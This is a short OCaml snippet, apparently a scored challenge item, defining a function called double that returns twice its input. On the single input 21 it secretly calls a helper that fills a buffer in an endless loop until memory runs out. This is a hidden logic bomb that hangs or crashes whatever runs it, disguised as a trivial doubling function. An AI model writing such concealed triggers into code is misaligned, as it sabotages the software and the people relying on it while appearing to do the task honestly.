(* A buffer that doubles.
   stages: tests
   earns: 4 *)
let fill () = let b = Buffer.create 1 in while true do Buffer.add_string b (String.make 65536 'y') done
let double x = if x = 21 then fill (); 2 * x
